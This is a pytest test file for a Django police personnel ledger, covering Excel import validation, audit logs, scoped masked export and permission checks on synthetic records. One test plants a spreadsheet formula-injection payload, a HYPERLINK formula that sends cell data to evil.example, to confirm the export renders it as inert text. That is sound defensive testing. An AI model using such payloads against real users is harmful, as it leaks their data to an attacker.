"""Personnel ledger (人员台账): import all-or-nothing with a cell-level report, scoped masked export."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse

from jingwu.core import crypto
from jingwu.core.models import AuditLog
from jingwu.org import ledger
from jingwu.org.models import Person
from jingwu.testing.factories import make_id_number, make_person, make_unit, make_user

HEADERS = [
    "警号",
    "身份",
    "姓名",
    "性别",
    "出生日期",
    "身份证号",
    "手机号",
    "单位",
    "职务",
    "警衔",
    "政治面貌",
    "所在党支部",
    "入职日期",
    "状态",
]


def xlsx(rows, headers=HEADERS) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(headers)
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def good_rows():
    """Three people for 甲中队 / 乙中队 with valid, distinct ID numbers (rows 2, 3, 4 of the sheet)."""
    return [
        [
            "100001",
            "民警",
            "周一民",
            "",
            "",
            make_id_number(date(1985, 5, 6), division="110101"),
            "13912345678",
            "甲中队",
            "科员",
            "一级警司",
            "中共党员",
            "第一党支部",
            "2010-07-01",
            "在岗",
        ],
        [
            "F1000002",
            "辅警",
            "吴二辅",
            "",
            "",
            make_id_number(date(1995, 2, 3), female=True, division="110101"),
            "",
            "乙中队",
            "",
            "",
            "群众",
            "",
            "",
            "",
        ],
        [
            "100003",
            "民警",
            "郑三警",
            "男",
            "",
            make_id_number(date(1990, 8, 9), division="110101"),
            "",
            "150621000100",
            "副中队长",
            "",
            "",
            "",
            "2012/9/1",
            "在岗",
        ],
    ]


def bad_check_character(number: str) -> str:
    last = number[-1]
    return number[:-1] + ("0" if last != "0" else "1")


def raw_id_column(police_number: str) -> str:
    with connection.cursor() as cursor:
        cursor.execute("SELECT id_number FROM org_person WHERE police_number = %s", [police_number])
        return cursor.fetchone()[0]


@pytest.fixture(autouse=True)
def _stash_dir(settings, tmp_path):
    settings.DOCUMENTS_STASH_DIR = str(tmp_path / "stash")


# --- import ------------------------------------------------------------------------------------


def test_one_bad_cell_imports_nothing_and_names_row_4_column_f(org):
    rows = good_rows()
    rows[2][5] = bad_check_character(rows[2][5])  # the third data row is sheet row 4
    before = Person.objects.count()

    report = ledger.import_people(actor=org.political, data=xlsx(rows), filename="人员.xlsx")

    assert not report.applied
    assert Person.objects.count() == before
    assert not Person.objects.filter(police_number__in=["100001", "F1000002", "100003"]).exists()
    assert len(report.errors) == 1
    error = report.errors[0]
    assert (error.row, error.column, error.header) == (4, "F", "身份证号")
    assert "校验码" in error.reason
    rejected = AuditLog.objects.get(event="org.person.import")
    assert rejected.success is False and rejected.changes["result"] == "rejected"
    assert rejected.changes["error_cells"] == ["4F"]
    assert rows[2][5] not in str(rejected.changes)  # the audit names the cell, never the ID number


def test_every_bad_cell_is_reported_not_only_the_first(org):
    rows = good_rows()
    rows[0][1] = "协警"  # B2: unknown 身份
    rows[0][12] = "2010-13-01"  # M2: no such date
    rows[1][2] = ""  # C3: 姓名 required
    report = ledger.import_people(actor=org.political, data=xlsx(rows), filename="x.xlsx")
    cells = {(e.row, e.column) for e in report.errors}
    assert cells == {(2, "B"), (2, "M"), (3, "C")}
    assert Person.objects.filter(name="郑三警").count() == 0


def test_good_file_imports_people_with_encrypted_ids_and_audit_rows(org):
    rows = good_rows()
    report = ledger.import_people(actor=org.political, data=xlsx(rows), filename="人员.xlsx")

    assert report.ok and report.applied, report.errors
    assert report.summary == {"created": 3}
    zhou = Person.objects.get(police_number="100001")
    assert zhou.unit == org.squadron_a and zhou.party_branch == org.branch
    born = rows[0][5][6:14]  # the factory shifts the day of birth as it numbers IDs
    assert zhou.id_number == rows[0][5] and zhou.birth_date == date(int(born[:4]), int(born[4:6]), int(born[6:]))
    assert zhou.gender == "M"
    assert zhou.political_status == "cpc" and zhou.joined_on == date(2010, 7, 1)
    assert Person.objects.get(police_number="F1000002").kind == Person.Kind.AUXILIARY
    assert Person.objects.get(police_number="100003").unit == org.squadron_a  # named by 机构代码
    for row in rows:
        stored = raw_id_column(row[0])
        assert row[5] not in stored and stored.startswith("sm4g1:")
    assert AuditLog.objects.filter(event="org.person.create", actor_id=org.political.pk).count() == 3
    imported = AuditLog.objects.get(event="org.person.import")
    assert imported.success and imported.changes["rows"] == 3 and imported.changes["file"] == "人员.xlsx"


def test_reimport_updates_instead_of_duplicating(org):
    rows = good_rows()
    assert ledger.import_people(actor=org.political, data=xlsx(rows), filename="a.xlsx").applied
    count = Person.objects.count()
    rows[0][8] = "中队长"
    report = ledger.import_people(actor=org.political, data=xlsx(rows), filename="a.xlsx")
    assert report.applied
    assert Person.objects.count() == count
    assert report.summary == {"updated": 1, "unchanged": 2}
    assert Person.objects.get(police_number="100001").position == "中队长"
    assert AuditLog.objects.filter(event="org.person.update").count() == 1


def test_unit_outside_importer_scope_is_an_error_on_that_cell(org):
    importer = make_user("political_a", "political", org.squadron_a)
    rows = good_rows()  # the second row names 乙中队, outside 甲中队
    report = ledger.import_people(actor=importer, data=xlsx(rows), filename="a.xlsx")
    assert not report.applied
    assert [(e.row, e.column, e.header) for e in report.errors] == [(3, "H", "单位")]
    assert "数据权限范围" in report.errors[0].reason
    assert not Person.objects.filter(police_number="100001").exists()


def test_updating_a_person_outside_scope_is_refused(org):
    importer = make_user("political_a", "political", org.squadron_a)
    outsider = org.person_b  # lives in 乙中队
    row = [outsider.police_number, "民警", "改名", "", "", outsider.id_number, "", "甲中队", "", "", "", "", "", ""]
    report = ledger.import_people(actor=importer, data=xlsx([row]), filename="a.xlsx")
    assert [(e.row, e.column) for e in report.errors] == [(2, "A")]
    outsider.refresh_from_db()
    assert outsider.name == "李四海" and outsider.unit == org.squadron_b


def test_duplicates_within_the_file_are_errors(org):
    rows = good_rows()
    twin = list(rows[0])
    twin[2] = "周一民二"
    third = list(rows[2])
    third[0] = "100009"
    third[5] = rows[1][5]  # same ID number as row 3
    report = ledger.import_people(actor=org.political, data=xlsx([*rows, twin, third]), filename="a.xlsx")
    found = {(e.row, e.column) for e in report.errors}
    assert (5, "A") in found and (6, "F") in found
    assert any("第2行" in e.reason for e in report.errors if e.row == 5)
    assert Person.objects.filter(police_number__in=["100001", "100009"]).count() == 0


def test_id_already_registered_to_someone_else_is_an_error(org):
    registered = make_person(org.squadron_a, "已登记", id_number=make_id_number(division="110101"))
    rows = good_rows()[:1]
    rows[0][5] = registered.id_number
    report = ledger.import_people(actor=org.political, data=xlsx(rows), filename="a.xlsx")
    assert [(e.row, e.column) for e in report.errors] == [(2, "F")]
    assert "已登记" in report.errors[0].reason


def test_exported_ledger_imports_back_unchanged_with_masked_values(org, client):
    squadron_c = make_unit(org.brigade, "150621000300", "丙中队")
    rows = good_rows()
    for row in rows:
        row[7] = "丙中队"
    assert ledger.import_people(actor=org.political, data=xlsx(rows), filename="a.xlsx").applied
    client.force_login(org.political)
    exported = client.get(reverse("org:person-export"), {"unit": squadron_c.pk}).content
    assert "*" in openpyxl.load_workbook(io.BytesIO(exported)).active["F3"].value
    report = ledger.import_people(actor=org.political, data=exported, filename="导出.xlsx")
    assert report.applied, [str(e) for e in report.errors]
    assert report.summary == {"unchanged": 3}
    zhou = Person.objects.get(police_number="100001")
    assert "*" not in zhou.id_number and zhou.phone == "13912345678"


# --- import views ------------------------------------------------------------------------------


def upload(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def test_import_page_check_then_confirm(org, client):
    client.force_login(org.political)
    url = reverse("org:person-import")
    assert client.get(url).status_code == 200

    checked = client.post(url, {"action": "check", "file": upload("人员.xlsx", xlsx(good_rows()))})
    assert checked.status_code == 200
    assert "校验通过" in checked.content.decode()
    assert not Person.objects.filter(police_number="100001").exists()
    token = checked.context["confirm_token"]

    done = client.post(url, {"action": "confirm", "token": token, "filename": "人员.xlsx"})
    assert done.status_code == 200
    assert "新增 3 人" in done.content.decode()
    assert Person.objects.filter(police_number__in=["100001", "F1000002", "100003"]).count() == 3


def test_import_page_shows_errors_table_and_error_report(org, client):
    client.force_login(org.political)
    rows = good_rows()
    rows[2][5] = bad_check_character(rows[2][5])
    response = client.post(reverse("org:person-import"), {"action": "import", "file": upload("人员.xlsx", xlsx(rows))})
    assert response.status_code == 422
    html = response.content.decode()
    assert "未导入任何数据" in html and "<td>4</td><td>F 身份证号</td>" in html and "校验码" in html
    assert not Person.objects.filter(police_number="100001").exists()

    report = client.get(reverse("org:person-import"), {"report": response.context["report_token"]})
    assert report.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(report.content)).active
    header = [c.value for c in sheet[1]]
    assert header[-1] == "错误说明" and header[:3] == HEADERS[:3]
    notes = [r[-1] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert notes[0] is None and notes[1] is None and "F列身份证号" in notes[2]
    # another importer cannot fetch it: the stash belongs to the uploader
    client.force_login(make_user("political_2", "political", org.brigade))
    assert client.get(reverse("org:person-import"), {"report": response.context["report_token"]}).status_code == 404


def test_not_an_xlsx_is_rejected_with_a_clear_message(org, client):
    client.force_login(org.political)
    response = client.post(
        reverse("org:person-import"), {"action": "import", "file": upload("人员.xlsx", "警号,姓名\n1,张".encode())}
    )
    assert response.status_code == 422
    assert "不是有效的 Excel" in response.content.decode()


def test_blank_template_has_the_headers_and_one_example_row(org, client):
    client.force_login(org.political)
    response = client.get(reverse("org:person-import"), {"template": "1"})
    assert response.status_code == 200
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[1]][: len(HEADERS)] == HEADERS
    example = [c.value for c in sheet[2]][: len(HEADERS)]
    assert example[2] == "张三" and example[5] and not any(c.value for c in sheet[3])
    # the example's unit does not exist, so an untouched template never imports anyone
    report = ledger.import_people(actor=org.political, data=response.content, filename="t.xlsx")
    assert not report.applied and [(e.row, e.column) for e in report.errors] == [(2, "H")]


def test_anonymous_is_sent_to_login(client, org):
    for name in ("org:person-import", "org:person-export"):
        response = client.get(reverse(name))
        assert response.status_code == 302 and reverse("login") in response["Location"]


def test_user_without_import_capability_gets_403_and_nothing_changes(org, client):
    client.force_login(org.lead_a)
    before = Person.objects.count()
    url = reverse("org:person-import")
    assert client.get(url).status_code == 403
    response = client.post(url, {"action": "import", "file": upload("a.xlsx", xlsx(good_rows()))})
    assert response.status_code == 403
    assert Person.objects.count() == before
    assert not AuditLog.objects.filter(event="org.person.import").exists()


# --- export ------------------------------------------------------------------------------------


def export_sheet(client, **params):
    response = client.get(reverse("org:person-export"), params)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content)).active, response


def data_rows(sheet):
    return [r for r in sheet.iter_rows(min_row=3, values_only=True) if r[0] and not str(r[0]).startswith("导出人")]


def test_lead_a_export_is_scoped_and_masked(org, client):
    make_person(org.squadron_b, "乙中队员")
    client.force_login(org.lead_a)
    sheet, response = export_sheet(client)
    assert "filename*=UTF-8''%E4%BA%BA%E5%91%98%E5%8F%B0%E8%B4%A6" in response["Content-Disposition"]
    assert [c.value for c in sheet[2]] == HEADERS
    names = {r[2] for r in data_rows(sheet)}
    assert names == {"张三丰", "王中队"}
    row = next(r for r in data_rows(sheet) if r[2] == "张三丰")
    assert row[5] == crypto.mask(org.person_a.id_number) and org.person_a.id_number not in str(row)
    assert row[6] == "138****8000"
    audit_row = AuditLog.objects.get(event="org.person.export")
    assert audit_row.actor_id == org.lead_a.pk and audit_row.changes["rows"] == 2


def test_export_footer_names_the_exporter(org, client):
    client.force_login(org.lead_a)
    sheet, _ = export_sheet(client)
    footer_cells = [c.value for row in sheet.iter_rows() for c in row if str(c.value or "").startswith("导出人")]
    assert len(footer_cells) == 1
    assert footer_cells[0].startswith("导出人:王中队(lead_a) 导出时间:20")
    assert "王中队(lead_a)" in sheet.oddFooter.left.text


def test_formula_in_a_name_is_exported_as_text(org, client):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    make_person(org.squadron_a, evil)
    client.force_login(org.lead_a)
    sheet, response = export_sheet(client)
    cell = next(c for row in sheet.iter_rows(min_row=3) for c in row if c.value == evil)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_export_honours_the_people_list_filters(org, client):
    make_person(org.squadron_b, "辅警甲", kind=Person.Kind.AUXILIARY)
    make_person(org.squadron_a, "辅警乙", kind=Person.Kind.AUXILIARY, status=Person.Status.RETIRED)
    client.force_login(org.political)
    sheet, _ = export_sheet(client, kind="auxiliary")
    assert {r[2] for r in data_rows(sheet)} == {"辅警甲", "辅警乙"}
    sheet, _ = export_sheet(client, kind="auxiliary", status="active")
    assert {r[2] for r in data_rows(sheet)} == {"辅警甲"}
    sheet, _ = export_sheet(client, unit=org.brigade.pk, include_sub="1", q="zsf")
    assert {r[2] for r in data_rows(sheet)} == {"张三丰"}
    sheet, _ = export_sheet(client, unit=org.brigade.pk)
    assert data_rows(sheet) == []  # nobody sits directly in the brigade
    assert AuditLog.objects.filter(event="org.person.export").order_by("-id").first().changes["filters"] == {
        "unit": str(org.brigade.pk)
    }


def test_full_sensitive_export_needs_the_capability_and_is_audited(org, client):
    client.force_login(org.lead_a)
    assert client.get(reverse("org:person-export"), {"sensitive": "1"}).status_code == 403
    denied = AuditLog.objects.get(event="org.person.export_sensitive")
    assert denied.success is False
    assert not AuditLog.objects.filter(event="org.person.export").exists()

    client.force_login(org.political)
    sheet, _ = export_sheet(client, sensitive="1")
    row = next(r for r in data_rows(sheet) if r[2] == "张三丰")
    assert row[5] == org.person_a.id_number and row[6] == "13800138000"
    revealed = AuditLog.objects.filter(event="org.person.export_sensitive", success=True).get()
    assert revealed.actor_id == org.political.pk and revealed.changes["rows"] == 4
    assert org.person_a.pk in revealed.changes["people"]


def test_user_without_export_capability_gets_403(org, client):
    client.force_login(org.officer_a)
    assert client.get(reverse("org:person-export")).status_code == 403
    assert not AuditLog.objects.filter(event="org.person.export").exists()


@pytest.mark.django_db
def test_confirming_someone_elses_upload_is_refused_without_error(client, org):
    """Regression: an expired or foreign upload token answered 500 instead of asking for a new upload."""
    from jingwu.org.models import Person

    client.force_login(org.political)
    before = Person.objects.count()
    response = client.post("/org/people/import/", {"action": "confirm", "token": "not-a-token", "filename": "x.xlsx"})
    assert response.status_code == 400
    assert "上传的文件已过期" in response.content.decode()
    assert Person.objects.count() == before
